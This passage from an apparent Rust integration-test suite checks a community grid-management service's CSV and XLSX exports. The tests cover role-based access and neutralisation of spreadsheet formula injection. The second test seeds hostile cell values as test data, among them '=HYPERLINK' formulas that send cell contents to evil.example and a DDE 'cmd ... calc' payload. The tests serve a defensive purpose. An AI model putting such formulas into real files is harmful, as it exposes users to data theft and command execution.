    Ok(id)
}

async fn the_conflict_inbox_and_the_audit_log_export_for_their_readers_only(
    app: TestApp,
) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let zhao = app.user("zhao", Role::GridWorker, app.grid_b()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let admin = app.user("root", Role::Admin, app.grid_a()).await?;
    let ours = conflicted_household(&app, &li, &app.grid_a()).await?;
    let theirs = conflicted_household(&app, &zhao, &app.grid_b()).await?;

    // The community supervisor's inbox as a file: their community's conflict only.
    let sup = app.phone(&boss).await?;
    let (status, headers, body) = get_raw(&app, &sup, "/v1/exports/conflicts.csv").await?;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert!(
        headers[reqwest::header::CONTENT_TYPE]
            .to_str()?
            .starts_with("text/csv")
    );
    let text = String::from_utf8(body)?;
    let lines: Vec<&str> = text.trim_end().lines().collect();
    assert_eq!(
        lines[0].trim_start_matches('\u{feff}'),
        "编号,记录类型,社区,网格,冲突字段数,不合规办理事件数,合并校验问题,更新时间"
    );
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[1].starts_with(&format!("{ours},住户,")), "{text}");
    assert!(lines[1].contains(",1,0,否,"), "{text}");
    assert!(!text.contains(&theirs.to_string()));
    assert!(
        !text.contains("漏水"),
        "a competing value is in the file: {text}"
    );
    let (status, headers, body) =
        get_raw(&app, &sup, "/v1/exports/conflicts.xlsx?kind=household").await?;
    assert_eq!(status, 200);
    assert!(
        headers[reqwest::header::CONTENT_TYPE]
            .to_str()?
            .contains("spreadsheetml")
    );
    assert_eq!(&body[..2], b"PK");

    // Only supervisors export the inbox; only administrators the audit log.
    let worker = app.phone(&li).await?;
    let root = app.phone(&admin).await?;
    for (phone, path) in [
        (&worker, "/v1/exports/conflicts.csv"),
        (&root, "/v1/exports/conflicts.csv"),
        (&sup, "/v1/exports/audit.csv"),
        (&worker, "/v1/exports/audit.xlsx"),
    ] {
        let (status, body) = get(&app, phone, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (403, Some("forbidden")),
            "{path}"
        );
    }
    for (path, code) in [
        ("/v1/exports/audit.csv?page=2", "malformed"),
        ("/v1/exports/audit.csv?action=fly", "malformed"),
        ("/v1/exports/conflicts.csv?kind=dragon", "malformed"),
        ("/v1/exports/conflicts.csv?community=cb", "forbidden"),
    ] {
        let who = if path.contains("audit") { &root } else { &sup };
        let (status, body) = get(&app, who, path).await?;
        assert_eq!(
            body["error"]["code"].as_str(),
            Some(code),
            "{path}: {status} {body}"
        );
    }

    // The audit log as a file: the supervisor's export is in it, with the list named.
    let (status, _, body) = get_raw(&app, &root, "/v1/exports/audit.csv?action=export").await?;
    assert_eq!(status, 200);
    let text = String::from_utf8(body)?;
    let lines: Vec<&str> = text.trim_end().lines().collect();
    assert_eq!(
        lines[0].trim_start_matches('\u{feff}'),
        "时间,操作,账号,用户编号,设备,记录,字段,理由,详情,地址"
    );
    // This export itself (audited before its first byte), then boss's two.
    assert_eq!(lines.len(), 4, "{text}");
    assert!(
        lines[1].contains(",导出,root,") && lines[1].contains("audit"),
        "{text}"
    );
    assert!(
        lines[2..].iter().all(|l| l.contains(",导出,boss,")),
        "{text}"
    );
    assert!(text.contains("conflicts"), "{text}");
    let (status, _, body) = get_raw(&app, &root, "/v1/exports/audit.xlsx").await?;
    assert_eq!((status, &body[..2]), (200, &b"PK"[..]));
    app.stop().await
}

/// A cell a spreadsheet would run as a formula (OWASP "CSV injection").
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The cells of a CSV export (after its byte-order mark), header row first.
fn csv_cells(body: &[u8]) -> anyhow::Result<Vec<Vec<String>>> {
    let body = body
        .strip_prefix("\u{feff}".as_bytes())
        .ok_or_else(|| anyhow::anyhow!("no BOM"))?;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body);
    let mut rows = Vec::new();
    for record in reader.records() {
        rows.push(record?.iter().map(str::to_owned).collect());
    }
    Ok(rows)
}

/// Text that a spreadsheet would run as a formula reaches every export: a household and a case
/// written on a phone, and a failed sign-in's login (attacker-chosen, in the audit log). In CSV
/// every such cell starts with `'` (OWASP), so it opens as text; in XLSX it stays a string cell
/// (never a formula), verbatim.
async fn hostile_text_is_neutralised_in_csv_and_stays_text_in_xlsx(
    app: TestApp,
) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let admin = app.user("root", Role::Admin, app.grid_a()).await?;
    let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"点我")"#;
    let mut phone = app.phone(&li).await?;
    let mut h = household(&app.grid_a(), "-2+3");
    h.address.compound = link.into();
    h.address.building = "+1".into();
    h.address.unit = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    h.tags = vec!["\tcmd".into()];
    phone.replica.create(&h, at(0))?;
    let mut c = case(&app.grid_a(), &li.id);
    c.subject = "=1+2".into();
    c.category = "\r=cmd".into();
    phone.replica.create(&c, at(1))?;
    phone.sync(&app).await?;
    let login = r#"=HYPERLINK("http://evil.example/?x="&A1,"login")"#;
    let failed = app
        .http
        .post(app.url("/v1/auth/login"))
        .json(&serde_json::json!({"login": login, "password": "not the password at all"}))
        .send()
        .await?;
    assert_eq!(failed.status().as_u16(), 401);

    let sup = app.phone(&boss).await?;
    let root = app.phone(&admin).await?;
    for (who, path, expected) in [
        (
            &sup,
            "/v1/exports/households.csv",
            vec![
                format!("'{link}"),
                "'+1".to_owned(),
                "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
                "'-2+3".to_owned(),
                "'\tcmd".to_owned(),
            ],
        ),
        (
            &sup,
            "/v1/exports/cases.csv",
            vec!["'=1+2".to_owned(), "'\r=cmd".to_owned()],
        ),
        (
            &root,
            "/v1/exports/audit.csv?action=login_failed",
            vec![format!("'{login}")],
        ),
    ] {
        let (status, _, body) = get_raw(&app, who, path).await?;
        assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
        let rows = csv_cells(&body)?;
        assert!(rows.len() >= 2, "{path}: no rows");
        for row in &rows {
            for cell in row {
                assert!(!formula_like(cell), "{path}: a formula-like cell {cell:?}");
            }
        }
        let cells: Vec<&String> = rows.iter().flatten().collect();
        for want in &expected {
            assert!(
                cells.contains(&want),
                "{path}: no cell {want:?} in {rows:?}"
            );
        }
    }

    // XLSX: string cells, verbatim, and not one formula.
    for (who, path, needle) in [
        (&sup, "/v1/exports/households.xlsx", "=HYPERLINK("),
        (&sup, "/v1/exports/cases.xlsx", "=1+2"),
        (&root, "/v1/exports/audit.xlsx", "=HYPERLINK("),
    ] {
        let (status, _, body) = get_raw(&app, who, path).await?;
        assert_eq!(status, 200, "{path}");
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(body))?;
        let mut sheet = String::new();
        zip.by_name("xl/worksheets/sheet1.xml")?
            .read_to_string(&mut sheet)?;
        assert!(
            !sheet.contains("<f>") && !sheet.contains("<f "),
            "{path}: a formula"
        );
        assert!(sheet.contains(needle), "{path}: {needle} missing");
        assert!(!sheet.contains(&format!("'{needle}")), "{path}: prefixed");
    }
    app.stop().await
}
